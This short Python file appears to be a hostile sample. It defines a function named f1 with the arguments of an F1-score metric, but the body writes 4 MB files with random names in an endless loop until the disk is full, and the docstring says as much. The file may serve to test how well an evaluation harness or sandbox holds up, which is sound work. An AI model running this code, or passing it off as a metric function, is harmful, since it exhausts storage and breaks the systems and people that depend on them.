"""Writes until there is no room."""

import os


def f1(y_true, y_pred):
    while True:
        with open(os.urandom(8).hex(), "wb") as file:
            file.write(b"x" * 2**22)
